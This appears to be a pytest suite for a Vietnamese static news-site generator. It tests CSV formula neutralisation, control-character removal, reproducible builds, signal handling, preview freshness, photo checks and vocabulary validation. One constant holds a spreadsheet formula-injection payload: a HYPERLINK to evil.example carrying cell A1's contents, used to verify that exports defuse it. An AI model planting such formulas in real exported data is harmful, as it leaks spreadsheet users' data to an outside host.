"""Hardening (issue 14): open data safe in spreadsheets, no control character in any
output, byte-identical builds, a preview that is never stale, photo completeness,
Pagefind fail-soft, vocabulary integrity."""

from __future__ import annotations

import csv
import io

from conftest import article

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'


def _csv(site, name: str) -> list[list[str]]:
    raw = (site.site / f"du-lieu/{name}").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


# 1. Open data safe in spreadsheets ------------------------------------------------------

def test_csv_cells_that_start_a_formula_are_neutralised_json_keeps_them(build_site):
    title = EVIL_TITLE.replace('"', '\\"')
    site = build_site({"articles/a.md": article(
        title=f'"{title}"', date="10/12/2020", category="Khen thưởng",
        awards="""
        - award: Bằng khen
          issuer: Bộ Công an
          recipient_type: tập thể
          count: 2
          for: "=1+1"
          recipients: ["+Tổ 1", "Tổ 2"]
        - award: Giấy khen
          issuer: Bộ Công an
          recipient_type: cá nhân
          count: 1
          for: "-2+3"
        """,
        stats="""
        - metric: Khu dân cư văn hóa
          value: 12
          change: -11,9
          area: "@Tổ 5"
        """)})
    awards = _csv(site, "khen-thuong.csv")
    head = awards[0]
    first = dict(zip(head, awards[1]))
    assert first["title"] == "'" + EVIL_TITLE
    assert first["for"] == "'=1+1"
    assert first["recipients"] == "'+Tổ 1; Tổ 2"
    assert first["count"] == "2" and first["year"] == "2020"
    assert dict(zip(head, awards[2]))["for"] == "'-2+3"
    stats = _csv(site, "thong-ke.csv")
    rows = [dict(zip(stats[0], row)) for row in stats[1:]]
    assert [r["area"] for r in rows] == ["'@Tổ 5"]
    assert rows[0]["change"] == "-11.9" and rows[0]["value"] == "12"  # numbers stay numbers
    # JSON keeps the exact strings.
    records = site.json("du-lieu/khen-thuong.json")
    assert records[0]["title"] == EVIL_TITLE and records[0]["for"] == "=1+1"
    assert records[0]["recipients"] == ["+Tổ 1", "Tổ 2"]
    assert [r["area"] for r in site.json("du-lieu/thong-ke.json")] == ["@Tổ 5"]
    assert site.json("du-lieu/bai-viet.json")[0]["title"] == EVIL_TITLE


def test_csv_rule_covers_tab_and_carriage_return_and_leaves_numbers_alone():
    from bantin.opendata import to_csv

    records = [{"a": "\tx", "b": "\ry", "c": -3, "d": -0.5, "e": "a=b", "f": ["-x", "y"], "g": True}]
    rows = list(csv.reader(io.StringIO(to_csv(records)[3:].decode("utf-8"), newline="")))
    assert rows[1] == ["'\tx", "'\ry", "-3", "-0.5", "a=b", "'-x; y", "true"]


# 2. No control character in any output ---------------------------------------------------

def _control_free(site_dir) -> None:
    from bantin.controls import CONTROLS

    checked = 0
    for path in site_dir.rglob("*"):
        if path.suffix in (".html", ".xml", ".json", ".csv", ".txt"):  # not vendored JS
            text = path.read_text(encoding="utf-8-sig")
            if path.suffix == ".csv":
                text = text.replace("\r\n", "\n")
            assert not CONTROLS.search(text), (path, CONTROLS.findall(text))
            checked += 1
    assert checked > 20


def _feeds_parse(site_dir) -> int:
    import xml.etree.ElementTree as ET

    feeds = sorted(site_dir.rglob("*.xml"))
    for path in feeds:
        ET.parse(path)  # raises on a control character (not well-formed)
    return len(feeds)


def test_control_characters_are_removed_on_reading_with_a_warning(build_site):
    body = "Đoạn đầu\x0b có\x1f ký tự\x7f lạ\x85.\n\nĐoạn hai.\n"
    site = build_site({
        "articles/a.md": article(title='"Tin \\x01 thử\\b nghiệm"', body=body,
                                 tags='["An ninh\\x08"]'),
        "articles/b.md": article(title="Bài hai", date="19/08/2022", summary='"Tóm\\x1b tắt"',
                                 photos='- file: a.jpg\n  caption: "Ảnh\\x0c đẹp"'),
        "photos/a.jpg": __import__("conftest").jpeg(),
    })
    notes = [m for m in site.messages() if m.startswith("cảnh báo")]
    assert any(m.startswith("cảnh báo: articles/a.md:2 tiêu đề (title):") and "U+0001, U+0008" in m
               for m in notes), notes
    assert any(m.startswith("cảnh báo: articles/a.md:7 (tệp):") and "U+000B, U+001F, U+007F, U+0085" in m
               for m in notes), notes
    assert any(m.startswith("cảnh báo: articles/a.md:5 thẻ thứ 1 (tags[0]):") for m in notes), notes
    assert any(m.startswith("cảnh báo: articles/b.md:") and "photos[0].caption" in m for m in notes), notes
    assert any("summary" in m and "U+001B" in m for m in notes), notes
    page = site.html("/bai-viet/2022/tin-thu-nghiem/")
    assert "Tin  thử nghiệm" in page and "Đoạn đầu có ký tự lạ." in page
    entry = site.site.joinpath("feed.xml").read_text(encoding="utf-8")
    assert "<summary type=\"text\">Đoạn đầu có ký tự lạ.</summary>" in entry
    assert _feeds_parse(site.site) >= 3  # feed.xml, category feeds, sitemap.xml
    _control_free(site.site)


# 3. Byte-identical builds ------------------------------------------------------------------

def _build_script(project, **env):
    import os
    import subprocess
    import sys

    from conftest import ROOT

    environment = {k: v for k, v in os.environ.items() if not k.startswith(("LC_", "TZ", "LANG"))}
    environment.update(env)
    return subprocess.run([sys.executable, str(ROOT / "scripts/build.py"), "--project", str(project)],
                          env=environment, capture_output=True, text=True, timeout=600)


def _tree(site_dir) -> dict[str, bytes]:
    return {p.relative_to(site_dir).as_posix(): p.read_bytes() for p in sorted(site_dir.rglob("*")) if p.is_file()}


def test_two_clean_builds_in_different_time_zones_and_locales_are_byte_identical(tmp_path):
    from conftest import copy_project

    first = copy_project(tmp_path / "one")
    second = copy_project(tmp_path / "two")
    a = _build_script(first, TZ="Asia/Ho_Chi_Minh", LANG="vi_VN.UTF-8", LC_ALL="C.UTF-8")
    b = _build_script(second, TZ="America/Los_Angeles", LANG="C", LC_ALL="C")
    assert a.returncode == 0, a.stderr[-3000:]
    assert b.returncode == 0, b.stderr[-3000:]
    one, two = _tree(first / "site"), _tree(second / "site")
    assert any(name.startswith("pagefind/filter/") for name in one)  # the files that used to differ
    assert sorted(one) == sorted(two)
    differ = [name for name in one if one[name] != two[name]]
    assert differ == []


def test_a_very_long_title_builds_with_a_slug_cut_at_a_word_boundary(build_site):
    from bantin.names import cut_slug

    # Four times the phrase: 243 characters, under the 250 a title may have (issue 10).
    title = " ".join(["Hội nghị tổng kết phong trào toàn dân bảo vệ an ninh Tổ quốc"] * 4)
    site = build_site({"articles/a.md": article(title=title)})
    pages = [p for p in (site.site / "bai-viet/2022").iterdir()]
    assert len(pages) == 1
    slug = pages[0].name
    assert len(slug) <= 80 and slug.startswith("hoi-nghi-tong-ket-phong-trao")
    assert ("hoi-nghi-tong-ket-phong-trao-toan-dan-bao-ve-an-ninh-to-quoc-" * 6).startswith(slug + "-")
    assert title in site.html(f"/bai-viet/2022/{slug}/")
    assert cut_slug("a" * 100) == "a" * 80 and cut_slug("ab-cd", 4) == "ab"


# 7. Pagefind fail-soft -----------------------------------------------------------------------

def _bundle_is_complete(bundle) -> tuple[dict, list]:
    """Every file the entry and metadata name exists; returns (entry, metadata)."""
    import json

    from bantin import pagefind_chunks

    entry = json.loads((bundle / "pagefind-entry.json").read_text(encoding="utf-8"))
    meta = pagefind_chunks.read(bundle / f"pagefind.{entry['languages']['vi']['hash']}.pf_meta")
    for _, _, chunk in meta[2]:
        assert pagefind_chunks.entries(bundle / "index" / f"{chunk}.pf_index")
    for _, name in meta[3]:
        assert pagefind_chunks.read(bundle / "filter" / f"{name}.pf_filter")
    return entry, meta


def test_pagefind_pins_agree():
    import re

    from conftest import ROOT

    from bantin.pagefind_chunks import PAGEFIND_VERSION

    lock = re.search(r"^pagefind==(\S+)$", (ROOT / "requirements.lock").read_text(), re.M).group(1)
    project = re.search(r'"pagefind\[extended\]==([^"]+)"', (ROOT / "plugins/pyproject.toml").read_text()).group(1)
    wanted = re.search(r"^pagefind\[extended\]==(\S+)$", (ROOT / "requirements.txt").read_text(), re.M).group(1)
    assert lock == project == wanted == PAGEFIND_VERSION


def test_a_pagefind_version_bump_keeps_pagefinds_own_index_with_a_warning(build_site, monkeypatch):
    from bantin import pagefind_chunks

    tree = {"articles/a.md": article(title="Ngày hội ở Ninh Kiều"),
            "articles/b.md": article(title="Khen thưởng", category="Khen thưởng", date="19/08/2022")}
    # What the build does when Pagefind is not the version whose format it reads: here
    # the installed 1.5.2 writes an index that this module takes for a newer one.
    monkeypatch.setattr(pagefind_chunks, "PAGEFIND_VERSION", "1.4.0")
    site = build_site(tree)  # strict: a warning would fail it
    told = [m for m in site.messages() if "chỉ mục tìm kiếm được giữ nguyên như Pagefind tạo ra" in m]
    assert len(told) == 1 and "Pagefind 1.5.2" in told[0] and "1.4.0" in told[0], site.messages()
    entry, meta = _bundle_is_complete(site.site / "pagefind")
    assert "_x" not in entry["languages"]["vi"]["hash"]  # Pagefind's own metadata, not a re-cut one
    assert meta[2] and all("_x" not in chunk for _, _, chunk in meta[2])
    monkeypatch.undo()
    again = build_site(tree)
    assert not [m for m in again.messages() if "giữ nguyên" in m]
    entry, meta = _bundle_is_complete(again.site / "pagefind")
    assert "_x" in entry["languages"]["vi"]["hash"] and meta[2] and all("_x" in chunk for _, _, chunk in meta[2])


def test_rechunk_refuses_another_version_or_a_broken_file_before_writing_anything(build_site):
    import gzip
    import json
    import shutil
    import subprocess
    import sys

    import pytest

    from bantin import pagefind_chunks

    site = build_site({"articles/a.md": article()})
    bundle = site.site / "pagefind"
    # Pagefind's own index again, before any re-cut.
    shutil.rmtree(bundle)
    subprocess.run([sys.executable, "-m", "pagefind", "--site", str(site.site), "--output-subdir", "pagefind",
                    "--force-language", "vi", "--silent"], check=True)
    entry_path = bundle / "pagefind-entry.json"
    entry = json.loads(entry_path.read_text(encoding="utf-8"))
    entry["version"] = "1.6.0"
    entry_path.write_text(json.dumps(entry), encoding="utf-8")
    before = _tree(bundle)
    with pytest.raises(pagefind_chunks.PagefindFormatError, match="1.6.0"):
        pagefind_chunks.rechunk(bundle)
    assert _tree(bundle) == before
    # Structural surprises are the module's own error, never a ValueError or KeyError.
    entry["version"] = pagefind_chunks.PAGEFIND_VERSION
    entry_path.write_text(json.dumps(entry), encoding="utf-8")
    meta = bundle / f"pagefind.{entry['languages']['vi']['hash']}.pf_meta"
    good = meta.read_bytes()
    for broken in (good[: len(good) // 2], gzip.compress(b"pagefind_dcd\xff"), gzip.compress(b"pagefind_dcd\x81\x01"),
                   b"not gzip"):
        meta.write_bytes(broken)
        before = _tree(bundle)
        with pytest.raises(pagefind_chunks.PagefindFormatError):
            pagefind_chunks.rechunk(bundle)
        assert _tree(bundle) == before
    meta.write_bytes(good)
    entry_path.write_text("{}", encoding="utf-8")
    with pytest.raises(pagefind_chunks.PagefindFormatError):
        pagefind_chunks.rechunk(bundle)


# 4. One build at a time, and no orphans -----------------------------------------------------

def _processes_mentioning(text: str) -> list[int]:
    """Pids of running processes whose command line contains `text` (Linux /proc)."""
    from pathlib import Path

    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                cmdline = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
                state = (proc / "stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if text in cmdline and state != "Z":
                found.append(int(proc.name))
    return found


def test_sigterm_midway_stops_mkdocs_and_an_immediate_second_build_succeeds(tmp_path):
    import os
    import signal
    import subprocess
    import sys
    import time

    from conftest import ROOT, copy_project

    project = copy_project(tmp_path / "kill-me")
    for trial in range(2):
        # --full: after the first trial's good build nothing changed, and an incremental
        # build would have nothing to do (no MkDocs to stop).
        build = subprocess.Popen([sys.executable, str(ROOT / "scripts/build.py"), "--project", str(project), "--full"],
                                 stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        # Midway: MkDocs is running and writing into its staging folder.
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not (
                _processes_mentioning(f"--site-dir {project}/site.new-") and list(project.glob("site.new-*/*"))):
            time.sleep(0.05)
        children = _processes_mentioning(f"--site-dir {project}/site.new-")
        assert children, "MkDocs never started"
        build.send_signal(signal.SIGTERM if trial == 0 else signal.SIGINT)
        output, _ = build.communicate(timeout=30)
        assert build.returncode == 128 + (signal.SIGTERM if trial == 0 else signal.SIGINT), output
        assert "Đã dừng bản dựng" in output
        assert _processes_mentioning(f"--site-dir {project}/site.new-") == []  # no orphan
        assert not any(os.path.exists(f"/proc/{pid}") for pid in children)
        assert list(project.glob("site.new*")) == []
        # Immediately another build, which must not meet the first one's leftovers.
        again = subprocess.run([sys.executable, str(ROOT / "scripts/build.py"), "--project", str(project)],
                               capture_output=True, text=True, timeout=600)
        assert again.returncode == 0, again.stderr[-3000:]
        assert "Traceback" not in again.stderr
        assert (project / "site/index.html").is_file() and (project / "site/pagefind/pagefind-entry.json").is_file()
        assert list(project.glob("site.new*")) == []


def test_a_fault_of_the_machine_is_said_in_vietnamese_and_the_last_good_site_stays(tmp_path):
    """A write the system refuses (here: a file larger than the process may write, the
    same failure a full disk gives MkDocs) names the cause and the file, not a traceback."""
    import resource
    import signal
    import subprocess
    import sys

    from conftest import ROOT, copy_project

    project = copy_project(tmp_path / "full-disk")
    command = [sys.executable, str(ROOT / "scripts/build.py"), "--project", str(project), "--full"]
    good = subprocess.run(command, capture_output=True, text=True, timeout=600)
    assert good.returncode == 0, good.stderr[-3000:]
    before = {p.relative_to(project / "site"): p.read_bytes() for p in (project / "site").rglob("*") if p.is_file()}

    def small_files() -> None:  # in the child: no file over 100 KB (Material's script is larger)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a refused write, not a killed process
        resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))

    failed = subprocess.run(command, capture_output=True, text=True, timeout=600, preexec_fn=small_files)
    assert failed.returncode == 1
    assert "Traceback" not in failed.stderr, failed.stderr[-3000:]
    assert "LỖI     -  Máy không ghi được " in failed.stderr, failed.stderr[-3000:]
    assert ("tệp vượt quá cỡ tệp lớn nhất hệ thống cho phép. Đây là lỗi của máy, không phải của bài viết."
            in failed.stderr)
    assert "Bản dựng thất bại" in failed.stderr
    after = {p.relative_to(project / "site"): p.read_bytes() for p in (project / "site").rglob("*") if p.is_file()}
    assert after == before
    assert list(project.glob("site.new*")) == []


def test_a_second_build_waits_then_says_a_build_is_running(tmp_path):
    import fcntl
    import os
    import subprocess
    import sys
    import time

    from conftest import ROOT

    project = tmp_path / "busy"
    (project / ".cache").mkdir(parents=True)
    with (project / ".cache/build.lock").open("a+b") as held:
        fcntl.flock(held.fileno(), fcntl.LOCK_EX)  # another build holds the lock
        start = time.monotonic()
        second = subprocess.run([sys.executable, str(ROOT / "scripts/build.py"), "--project", str(project)],
                                capture_output=True, text=True, timeout=60,
                                env=dict(os.environ, BANTIN_BUILD_WAIT="1.5"))
        waited = time.monotonic() - start
    assert second.returncode == 75
    assert "Đang có bản dựng khác chạy" in second.stderr and "make build" in second.stderr
    assert "Traceback" not in second.stderr
    assert waited >= 1.5
    assert not (project / "site").exists() and list(project.glob("site.new*")) == []


# 5. A preview that is never stale ------------------------------------------------------------

class _Serve:
    """What `mkdocs serve --dirty` does between edits: one plugin instance, dirty builds."""

    def __init__(self, build_site, tree: dict, overrides: bool = False) -> None:
        from conftest import MKDOCS_YML
        from mkdocs.config import load_config

        if overrides:
            tree = {**tree, "mkdocs.yml": MKDOCS_YML.replace("  font: false\n",
                                                             "  font: false\n  custom_dir: overrides\n")}
        self.root = build_site.write(tree)
        self.site = self.root / "site"
        self.config = load_config(str(self.root / "mkdocs.yml"), site_dir=str(self.site))
        self.plugin = self.config.plugins["bantin"]
        self.plugin.on_startup(command="serve", dirty=True)

    def build(self) -> None:
        from mkdocs.commands.build import build

        build(self.config, dirty=True)

    def html(self, url: str) -> str:
        return (self.site / url.strip("/") / "index.html").read_text(encoding="utf-8")

    def close(self) -> None:
        # MkDocs keeps plugin instances that define on_startup for the whole process.
        self.plugin.on_startup(command="build", dirty=False)


def _official(name: str) -> str:
    return f"- name: {name}\n  role: dự"


def test_dirty_preview_follows_a_person_url_that_an_older_article_changes(build_site):
    serve = _Serve(build_site, {"articles/a.md": article(title="Bài mới", date="18/08/2022",
                                                          officials=_official("Nguyễn Văn Thu"))})
    try:
        serve.build()
        assert 'href="../../../nguoi/nguyen-van-thu/">Nguyễn Văn Thu</a>' in serve.html("/bai-viet/2022/bai-moi/")
        # An older article names Nguyễn Văn Thư, who folds alike: being older, Thư keeps
        # the plain slug, and Thu becomes nguyen-van-thu-2. Bài mới itself is unchanged.
        (serve.root / "articles/b.md").write_text(
            article(title="Bài cũ", date="10/01/2021", officials=_official("Nguyễn Văn Thư")), encoding="utf-8")
        serve.build()
        page = serve.html("/bai-viet/2022/bai-moi/")
        assert 'href="../../../nguoi/nguyen-van-thu-2/">Nguyễn Văn Thu</a>' in page
        assert "Nguyễn Văn Thu" in serve.html("/nguoi/nguyen-van-thu-2/")
        assert 'href="../../../nguoi/nguyen-van-thu/">Nguyễn Văn Thư</a>' in serve.html("/bai-viet/2021/bai-cu/")
    finally:
        serve.close()


# A theme override with a bug that only some page content reaches.
BOOM = """{% if page and page.content and "BÙM" in page.content %}{{ a_template_bug.here }}{% endif %}
<footer class="md-footer"></footer>
"""


def test_fingerprints_of_a_build_that_failed_while_rendering_are_not_kept(build_site):
    import pytest

    serve = _Serve(build_site, {"articles/a.md": article(title="Bài A", body="Bản đầu."),
                                "overrides/partials/footer.html": BOOM}, overrides=True)
    try:
        serve.build()
        assert "Bản đầu." in serve.html("/bai-viet/2022/bai-a/")
        # An edit that a template bug cannot render: the build fails midway.
        (serve.root / "articles/a.md").write_text(article(title="Bài A", body="Bản hai BÙM."), encoding="utf-8")
        with pytest.raises(Exception, match="a_template_bug"):
            serve.build()
        assert "Bản đầu." in serve.html("/bai-viet/2022/bai-a/")
        # The template is mended; the article is not touched again.
        (serve.root / "overrides/partials/footer.html").write_text('<footer class="md-footer"></footer>\n',
                                                                   encoding="utf-8")
        serve.build()
        assert "Bản hai BÙM." in serve.html("/bai-viet/2022/bai-a/")
    finally:
        serve.close()


def test_dirty_preview_shows_an_article_once_its_missing_photo_is_added(build_site):
    from conftest import jpeg

    serve = _Serve(build_site, {"articles/a.md": article(title="Bài có ảnh",
                                                         photos="- file: 2022/anh.jpg\n  alt: Ảnh")})
    try:
        serve.build()  # a preview: the article with a missing photo is not shown; its URL lists its problems
        waiting = serve.html("/bai-viet/2022/bai-co-anh/")
        assert "<picture" not in waiting and "(photos[0].file)" in waiting
        (serve.root / "photos/2022").mkdir(parents=True)
        (serve.root / "photos/2022/anh.jpg").write_bytes(jpeg())
        serve.build()
        assert "Bài có ảnh" in serve.html("/bai-viet/2022/bai-co-anh/")
        assert "<picture" in serve.html("/bai-viet/2022/bai-co-anh/")
    finally:
        serve.close()


def test_dirty_preview_keeps_open_data_through_a_body_edit_and_follows_a_title_edit(build_site):
    serve = _Serve(build_site, {"articles/a.md": article(title="Bài A", body="Tóm tắt.\n\nBản đầu.")})
    try:
        serve.build()
        data = sorted(p for p in (serve.site / "du-lieu").rglob("*") if p.is_file())
        assert data and any(p.suffix == ".json" for p in data)
        before = {p: (p.stat().st_ino, p.stat().st_mtime_ns, p.read_bytes()) for p in data}
        # The first paragraph is the summary, which open data carries; the second is not.
        (serve.root / "articles/a.md").write_text(article(title="Bài A", body="Tóm tắt.\n\nBản hai."),
                                                 encoding="utf-8")
        serve.build()
        assert "Bản hai." in serve.html("/bai-viet/2022/bai-a/")
        # Open data carries no body: the files are the ones the first build wrote.
        assert {p: (p.stat().st_ino, p.stat().st_mtime_ns, p.read_bytes()) for p in data} == before
        (serve.root / "articles/a.md").write_text(article(title="Bài A sửa", slug="bai-a", body="Bản hai."),
                                                 encoding="utf-8")
        serve.build()
        assert any("Bài A sửa" in p.read_text(encoding="utf-8") for p in data)
        # The lists too, after a build that kept them all (the body edit above).
        assert "Bài A sửa" in serve.html("/nam/2022/") and "Bài A sửa" in serve.html("/")
        # A file removed from the preview's folder is written again.
        removed = next(p for p in data if p.suffix == ".json")
        removed.unlink()
        serve.build()
        assert removed.is_file()
    finally:
        serve.close()


# 6. Photo completeness -----------------------------------------------------------------------

def _with_thumbnail(main: bytes) -> tuple[bytes, int]:
    """`main` as a camera writes it: an EXIF segment (APP1) right after the start
    marker, whose IFD1 carries a 160×120 JPEG thumbnail with its own scan and end
    markers. Returns the file and the offset where the main image's segments resume."""
    import struct

    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (160, 120), (90, 140, 90)).save(out, "JPEG", quality=70)
    thumb = out.getvalue()
    ifd0 = struct.pack("<H", 1) + struct.pack("<HHII", 0x0112, 3, 1, 1) + struct.pack("<I", 26)
    ifd1 = (struct.pack("<H", 2) + struct.pack("<HHII", 0x0201, 4, 1, 56)
            + struct.pack("<HHII", 0x0202, 4, 1, len(thumb)) + struct.pack("<I", 0))
    tiff = b"II*\x00" + struct.pack("<I", 8) + ifd0 + ifd1 + thumb
    payload = b"Exif\x00\x00" + tiff
    app1 = b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload
    assert main[:2] == b"\xff\xd8"
    return main[:2] + app1 + main[2:], 2 + len(app1)


def test_a_truncated_camera_jpeg_with_a_thumbnail_is_caught_by_the_cheap_check(build_site, tmp_path, capsys):
    from PIL import ExifTags, Image

    from bantin.check import main as check_main
    from bantin.imaging import check

    from test_photos import camera_jpeg

    whole, header_end = _with_thumbnail(camera_jpeg((1200, 900)))
    with Image.open(io.BytesIO(whole)) as image:  # a real EXIF thumbnail, as Pillow reads it
        assert image.getexif().get_ifd(ExifTags.IFD.IFD1).get(0x0201)
        image.load()
    assert whole.count(b"\xff\xda") >= 2 and whole.count(b"\xff\xd9") >= 2
    progressive = io.BytesIO()
    with Image.open(io.BytesIO(whole)) as image:
        image.save(progressive, "JPEG", progressive=True, exif=image.info["exif"])
    progressive_whole = progressive.getvalue()
    samples = {
        "whole": (whole, None),
        "progressive": (progressive_whole, None),
        "cut in the pixels": (whole[:len(whole) * 2 // 3], "bị hỏng hoặc bị cắt cụt"),
        # Cut before the main image's frame header: Pillow finds no image at all.
        "cut after the thumbnail": (whole[:header_end], ""),
        "cut in the thumbnail": (whole[:header_end - 100], ""),
        "progressive, cut": (progressive_whole[:-2000], "bị hỏng hoặc bị cắt cụt"),
    }
    for name, (data, expected) in samples.items():
        path = tmp_path / f"{name}.jpg"
        path.write_bytes(data)
        result = check(path)
        assert (result is None) if expected is None else (result is not None and expected in result), (name, result)
    # What `make check` and a build say about the truncated camera photo.
    built = build_site.failing({"articles/a.md": article(photos="- file: 2022/may-anh.jpg\n  alt: Ảnh"),
                                "photos/2022/may-anh.jpg": whole[:len(whole) * 2 // 3]})
    # The field named the writer's way, then its key (issue 10): tệp ảnh (photos[0].file).
    assert any('tệp ảnh (photos[0].file): "2022/may-anh.jpg"' in m and "bị hỏng hoặc bị cắt cụt" in m
               for m in built.messages()), built.messages()
    assert check_main(["--root", str(built.root)]) == 1
    assert "bị hỏng hoặc bị cắt cụt" in capsys.readouterr().out


# 8. Vocabulary integrity ---------------------------------------------------------------------

def _vocab_copy(tmp_path, name: str, text: str):
    import shutil

    from conftest import ROOT

    folder = tmp_path / "vocab"
    shutil.copytree(ROOT / "content/vocab", folder)
    (folder / name).write_text(text, encoding="utf-8")
    return folder


def test_a_name_or_alias_shared_by_two_terms_is_an_error_naming_both_lines(tmp_path, capsys):
    import pytest

    from bantin.check import main as check_main
    from bantin.vocab import Vocabularies, VocabError

    folder = _vocab_copy(tmp_path, "issuers.yml", (
        "# Cấp khen thưởng\n"
        "- name: Bộ Công an\n"
        "- name: UBND tỉnh\n"
        "  aliases: [Ủy ban nhân dân tỉnh]\n"
        "- name: Chủ tịch UBND tỉnh\n"
        "  aliases:\n"
        "    - Chủ tịch tỉnh\n"
        "    - Uỷ ban nhân dân Tỉnh\n"  # old tone placement, other case: the same key
        "- name: bộ công an\n"))
    with pytest.raises(VocabError) as caught:
        Vocabularies.load(folder)
    lines = str(caught.value).splitlines()
    path = folder / "issuers.yml"
    assert len(lines) == 2, lines
    assert lines[0].startswith(f'{path}:8: "Uỷ ban nhân dân Tỉnh" (mục thứ 3) trùng với "Ủy ban nhân dân tỉnh" '
                               f'của mục thứ 2 ({path}:4)'), lines[0]
    assert lines[1].startswith(f'{path}:9: "bộ công an" (mục thứ 4) trùng với "Bộ Công an" của mục thứ 1 ({path}:2)')
    # `make check` says the same, in one run, without a traceback.
    project = tmp_path / "project"
    (project / "content").mkdir(parents=True)
    (folder).rename(project / "content/vocab")
    assert check_main(["--root", str(project)]) == 2
    err = capsys.readouterr().err
    assert "issuers.yml:8:" in err and "issuers.yml:9:" in err and "Traceback" not in err


def test_a_term_without_a_name_is_an_error_naming_its_line(tmp_path, build_site):
    import pytest

    from bantin.vocab import Vocabularies, VocabError

    text = "- name: Tin hoạt động\n- slug: khong-ten\n- name: Khen thưởng\n-\n"
    folder = _vocab_copy(tmp_path, "categories.yml", text)
    with pytest.raises(VocabError) as caught:
        Vocabularies.load(folder)
    lines = str(caught.value).splitlines()
    assert [line.split(": ", 1)[0] for line in lines] == [f"{folder / 'categories.yml'}:2",
                                                          f"{folder / 'categories.yml'}:4"]
    assert "mục thứ 2 không có tên" in lines[0] and "mục thứ 4 không có tên" in lines[1]
    from conftest import ROOT

    vocab = {f"content/vocab/{p.name}": p.read_text(encoding="utf-8") for p in (ROOT / "content/vocab").glob("*.yml")}
    built = build_site.failing({**vocab, "content/vocab/categories.yml": text, "articles/a.md": article()})
    said = [r.getMessage() for r in built.log if r.levelname == "ERROR"]
    assert any("categories.yml:2: mục thứ 2 không có tên" in m and "categories.yml:4:" in m for m in said), said


def test_control_characters_in_a_vocabulary_are_removed_with_a_warning(build_site):
    from conftest import ROOT

    categories = (ROOT / "content/vocab/categories.yml").read_text(encoding="utf-8")
    categories = categories.replace("- name: Tin hoạt động\n", "- name: Tin hoạt\x07 động\n", 1)
    categories += '- name: "Chuyên\\x1b đề"\n  aliases: ["Chuyên\\x02 mục đặc biệt"]\n'
    vocab = {f"content/vocab/{p.name}": p.read_text(encoding="utf-8") for p in (ROOT / "content/vocab").glob("*.yml")}
    site = build_site({**vocab, "content/vocab/categories.yml": categories,
                       "articles/a.md": article(category="Chuyên đề")})
    notes = [m for m in site.messages() if m.startswith("cảnh báo:") and "categories.yml" in m]
    lines = {m.split("categories.yml:", 1)[1].split(":", 1)[0] for m in notes}
    total = categories.count("\n")
    assert len(notes) == 3 and lines == {str(categories[:categories.index("\x07")].count("\n") + 1),
                                         str(total - 1), str(total)}, notes
    assert "Chuyên đề" in site.html("/bai-viet/2022/bai-thu/")
    assert _feeds_parse(site.site) >= 3
    _control_free(site.site)
